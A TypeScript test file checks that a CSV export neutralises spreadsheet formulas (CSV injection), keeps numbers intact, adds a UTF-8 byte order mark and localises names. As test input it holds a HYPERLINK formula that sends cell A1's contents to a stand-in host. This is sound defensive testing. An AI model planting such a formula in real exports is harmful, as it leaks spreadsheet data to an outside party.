import { csvContent, nameBook, neutraliseCell, toCsv, type ExportColumn } from './export.types.js';

describe('CSV exports and spreadsheet formulas (OWASP CSV injection)', () => {
  it('prefixes a quote to any text a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(neutraliseCell(`${start}HYPERLINK("http://x.test/?"&A1,"click")`)).toBe(
        `'${start}HYPERLINK("http://x.test/?"&A1,"click")`,
      );
    }
    expect(neutraliseCell('-')).toBe("'-");
    expect(neutraliseCell('-1500.25 USD')).toBe("'-1500.25 USD");
  });

  it('keeps numbers, negative decimals and ordinary text as they are', () => {
    expect(neutraliseCell('-1500.25')).toBe('-1500.25');
    expect(neutraliseCell('-3')).toBe('-3');
    expect(neutraliseCell(-1500.25)).toBe(-1500.25);
    expect(neutraliseCell('Prosecutors = judges')).toBe('Prosecutors = judges');
    expect(neutraliseCell(null)).toBeNull();
    expect(neutraliseCell(true)).toBe(true);
  });

  it('neutralises every cell of every export, header included', () => {
    const columns: ExportColumn<{ d: string; n: string }>[] = [
      { header: 'description', value: (r) => r.d },
      { header: 'gap', value: (r) => r.n },
    ];
    const csv = toCsv(columns, [{ d: '=HYPERLINK("http://x.test/?"&A1,"click")', n: '-1500.25' }]);
    expect(csv).toBe(`description,gap\n"'=HYPERLINK(""http://x.test/?""&A1,""click"")",-1500.25\n`);
  });
});

describe('CSV files people open in a spreadsheet', () => {
  const columns: ExportColumn<{ iso3: string; name: string }>[] = [
    { header: 'state', value: (r) => r.iso3 },
    { header: 'state_name', value: (r) => r.name },
  ];

  it('starts with the UTF-8 byte order mark, then the CSV in UTF-8', () => {
    const bytes = csvContent(columns, [{ iso3: 'CIV', name: "Côte d'Ivoire" }]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe("state,state_name\nCIV,Côte d'Ivoire\n");
    expect(new TextDecoder('utf-8').decode(bytes)).toBe("state,state_name\nCIV,Côte d'Ivoire\n");
  });

  it('keeps neutralising formulas behind the mark', () => {
    const bytes = csvContent(columns, [{ iso3: 'KEN', name: '=1+1' }]);
    expect(bytes.subarray(3).toString('utf8')).toBe("state,state_name\nKEN,'=1+1\n");
  });

  it('names States and priority areas in the language asked, English when a name is missing', () => {
    const states = [{ iso3: 'SEN', nameEn: 'Senegal', nameFr: 'Sénégal', nameEs: 'Senegal' }];
    const areas = [{ code: 'B', titleEn: 'Legislation', titleFr: 'Législation', titleEs: '' }];
    const fr = nameBook(states, areas, 'FR');
    expect([fr.state('SEN'), fr.priorityArea('B')]).toEqual(['Sénégal', 'Législation']);
    const es = nameBook(states, areas, 'ES');
    expect([es.state('SEN'), es.priorityArea('B')]).toEqual(['Senegal', 'Legislation']);
    expect([nameBook(states, areas).state('SEN'), fr.state('XXX'), fr.state(null), fr.priorityArea(undefined)]).toEqual(
      ['Senegal', '', '', ''],
    );
  });
});
